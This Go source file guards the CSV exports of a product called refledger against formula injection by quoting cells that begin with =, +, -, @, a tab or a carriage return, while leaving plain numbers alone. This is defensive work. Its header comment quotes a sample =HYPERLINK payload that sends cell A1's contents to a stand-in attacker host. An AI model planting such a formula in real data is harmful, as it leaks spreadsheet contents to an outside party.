// Package csvsafe keeps the CSV that refledger writes from being run as
// formulas when a spreadsheet opens it (CSV injection, CWE-1236). Ids,
// names and reasons come from publishers and partners: a partner id such
// as =HYPERLINK("https://evil.example?"&A1,"open") is a live formula in a
// finance team's spreadsheet unless it is defused.
//
// It follows OWASP's advice: a cell that starts with =, +, -, @, a tab or
// a carriage return gets a single quote in front, which spreadsheets take
// as "text" and show without it. A plain decimal number (^-?[0-9]+(\.[0-9]+)?$,
// such as the negative amount -99.40) is left as it is, so that amounts
// stay numbers a spreadsheet sums.
//
// Every CSV the product writes (the service's ?format=csv answers, the
// commands' --format csv) goes through Record. csvsafe imports only the
// standard library.
package csvsafe

// Cell is s made safe to open in a spreadsheet.
func Cell(s string) string {
	if s == "" || isDecimal(s) {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + s
	}
	return s
}

// Record is a copy of cells with each made safe (cells is not changed).
func Record(cells []string) []string {
	out := make([]string, len(cells))
	for i, c := range cells {
		out[i] = Cell(c)
	}
	return out
}

// isDecimal reports whether s is an optional minus, digits, and optionally
// a point and more digits.
func isDecimal(s string) bool {
	if s[0] == '-' {
		s = s[1:]
	}
	intPart := true
	digits := 0
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c >= '0' && c <= '9':
			digits++
		case c == '.' && intPart && digits > 0:
			intPart, digits = false, 0
		default:
			return false
		}
	}
	return digits > 0
}
